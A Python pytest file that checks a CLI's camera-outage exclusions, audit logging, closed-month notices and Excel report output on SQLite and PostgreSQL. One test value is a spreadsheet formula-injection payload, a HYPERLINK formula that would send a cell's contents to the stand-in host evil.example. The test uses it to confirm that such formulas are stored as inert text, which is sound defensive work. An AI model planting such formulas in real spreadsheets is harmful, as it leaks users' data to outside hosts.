"""The CLI's report workbook and exclusions on real SQLite and PostgreSQL (``camwatch`` run as a process).

- ``exclusion add`` wrote nothing to the audit log: now ``exclusion add`` rows naming the exclusion,
  its camera or region, its span, reason and approver;
- adding one into a closed month was silent: now it says the month's frozen (signed) figures do not
  change (the exclusion is stored), and removing it is refused without claiming it is signed;
- ``report monthly`` of a month holding an old exclusion whose reason has a control character died
  with a traceback (IllegalCharacterError); its text cells could be formulas;
- the workbook of a closed month carries the snapshot's sha256 and close time, another after
  reopen → close.
"""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import insert, select

from inventory.models import AuditEntry, Exclusion
from tests.collector.db_support import in_transaction

ROOT = Path(__file__).resolve().parents[3]
SAMPLE = ROOT / "config" / "sample_inventory.csv"
LINK = '=HYPERLINK("http://evil.example/?d="&C4,"x")'


def camwatch(cwd: Path, url: str, *args: str) -> subprocess.CompletedProcess[str]:
    exe = shutil.which("camwatch", path=str(Path(sys.executable).parent)) or "camwatch"
    env = {k: v for k, v in os.environ.items() if not k.startswith("CAMWATCH_")}
    env.update(CAMWATCH_DB=url, CAMWATCH_SECRET_KEY="test-key-material")
    return subprocess.run([exe, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=120)


def ok(r: subprocess.CompletedProcess[str]) -> subprocess.CompletedProcess[str]:
    assert r.returncode == 0 and "Traceback" not in r.stderr, (r.returncode, r.stdout, r.stderr)
    return r


def audit_rows(url: str) -> list[tuple[str, str, str, str]]:
    async def go(conn):  # type: ignore[no-untyped-def]
        return (await conn.execute(select(AuditEntry.actor, AuditEntry.action, AuditEntry.object, AuditEntry.detail)
                                   .order_by(AuditEntry.id))).all()

    return [tuple(r) for r in in_transaction(url, go)]


def sha_of(said: str) -> str:
    found = re.search(r"sha256 ([0-9a-f]{64})", said)
    assert found is not None, said
    return found[1]


def test_exclusions_audited_closed_months_said_and_the_workbook_sealed(tmp_path: Path, db_url: str) -> None:
    ok(camwatch(tmp_path, db_url, "db", "upgrade"))
    ok(camwatch(tmp_path, db_url, "inventory", "import", str(SAMPLE)))

    # 1. an exclusion added: audited, in the same transaction as the row
    r = ok(camwatch(tmp_path, db_url, "exclusion", "add", "--camera", "3", "--from", "2025-11-10 08:00",
                    "--to", "2025-11-10 12:00", "--reason", "=1+1", "--approver", LINK))
    assert r.stdout.startswith("已添加报备 #1：") and r.stderr == "", (r.stdout, r.stderr)
    rows = audit_rows(db_url)
    assert len(rows) == 1 and rows[0][0].startswith("cli") and rows[0][1:3] == ("exclusion add", "exclusion:1"), rows
    detail = rows[0][3]
    assert detail.startswith("add; camera=3 start=2025-11-10T00:00:00+00:00 end=2025-11-10T04:00:00+00:00 ") and \
        "reason==1+1" in detail and f"approver={LINK}" in detail and "closed_months" not in detail, detail

    # an old row (stored before the API refused control characters) in the same month (PostgreSQL
    # stores no NUL in text: there a SOH)
    nul = "\u0000" if db_url.startswith("sqlite") else "\u0001"

    async def old(conn):  # type: ignore[no-untyped-def]
        await conn.execute(insert(Exclusion).values(
            region_code="130123101201", start=dt.datetime(2025, 11, 12, 1, tzinfo=dt.UTC),
            end=dt.datetime(2025, 11, 12, 3, tzinfo=dt.UTC), reason="线路改造\u0007停电", approver=f"a{nul}b",
            status="approved", created_at=dt.datetime(2025, 11, 12, tzinfo=dt.UTC)))

    in_transaction(db_url, old)

    # 2. the month closed: its workbook carries the snapshot's hash and close time; no formula, no crash
    first = sha_of(ok(camwatch(tmp_path, db_url, "report", "close", "--month", "2025-11")).stdout)
    out = tmp_path / "a.xlsx"
    ok(camwatch(tmp_path, db_url, "report", "monthly", "--month", "2025-11", "--out", str(out)))
    wb = load_workbook(out)
    line = wb["汇总"]["F1"].value
    assert re.match(r"已结：\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", line) and " +08:00 结账冻结，快照校验码（sha256）" in line and line.endswith(first), line
    assert all(ws.oddFooter.right.text == line for ws in wb.worksheets)
    excl = wb["报备"]
    cells = {excl.cell(row=r, column=8).value: excl.cell(row=r, column=8) for r in range(3, excl.max_row + 1)}
    assert set(cells) == {"=1+1", "线路改造\ufffd停电"}, set(cells)
    assert cells["=1+1"].data_type == "s" and cells["=1+1"].quotePrefix
    approvers = {excl.cell(row=r, column=9).value: excl.cell(row=r, column=9).data_type for r in range(3, excl.max_row + 1)}
    assert approvers == {LINK: "s", "a\ufffdb": "s"}, approvers
    town = tmp_path / "town.xlsx"  # a township's cut: the county snapshot's hash, as the console shows it
    ok(camwatch(tmp_path, db_url, "report", "monthly", "--month", "2025-11", "--region", "130123101000",
                "--out", str(town)))
    assert load_workbook(town)["汇总"]["F1"].value == line

    # 3. one added into the closed month: stored, and said that the signed figures do not change
    r = ok(camwatch(tmp_path, db_url, "exclusion", "add", "--camera", "4", "--from", "2025-11-20 08:00",
                    "--to", "2025-11-20 09:00", "--reason", "补报停电", "--approver", "张三"))
    assert r.stdout.startswith("已添加报备 #3：")
    assert "2025-11 已结算，其冻结（签字）的数字不因此改变" in r.stderr and "报备已保存" in r.stderr, r.stderr
    assert 'camwatch report reopen --month 2025-11 --reason "…"' in r.stderr
    en = ok(camwatch(tmp_path, db_url, "--lang", "en", "exclusion", "add", "--camera", "5", "--from",
                     "2025-11-30 20:00", "--to", "2025-12-01 02:00", "--reason", "x", "--approver", "y"))
    assert en.stdout.startswith("exclusion #4 added: ")
    assert "note: 2025-11 closed: its frozen (signed) figures do not change; the exclusion is stored" in en.stderr, en.stderr
    rows = audit_rows(db_url)
    assert [a[1:3] for a in rows[-2:]] == [("exclusion add", "exclusion:3"), ("exclusion add", "exclusion:4")]
    assert rows[-1][3].endswith("closed_months=2025-11"), rows[-1]
    # the frozen workbook did not change
    ok(camwatch(tmp_path, db_url, "report", "monthly", "--month", "2025-11", "--out", str(out)))
    assert load_workbook(out)["汇总"]["F1"].value == line

    # 4. removing it is refused without saying it is part of the signed figures
    said = camwatch(tmp_path, db_url, "exclusion", "remove", "3", "--force")
    assert said.returncode == 1 and "Traceback" not in said.stderr
    assert "所在月份 2025-11 已结算（该月的数字已冻结）" in said.stderr and "签字" not in said.stderr, said.stderr
    said = camwatch(tmp_path, db_url, "--lang", "en", "exclusion", "remove", "3", "--force")
    assert "lies in 2025-11, closed (its figures are frozen): not removed" in said.stderr, said.stderr
    assert "signed" not in said.stderr

    # 5. reopen → close: the same title, another closing, said in the workbook
    ok(camwatch(tmp_path, db_url, "report", "reopen", "--month", "2025-11", "--reason", "补报停电"))
    second = sha_of(ok(camwatch(tmp_path, db_url, "report", "close", "--month", "2025-11")).stdout)
    assert second != first
    again = tmp_path / "b.xlsx"
    ok(camwatch(tmp_path, db_url, "report", "monthly", "--month", "2025-11", "--out", str(again)))
    other = load_workbook(again)["汇总"]
    assert other["A1"].value == wb["汇总"]["A1"].value and other["F1"].value.endswith(second)
    assert other.oddFooter.right.text.endswith(second)
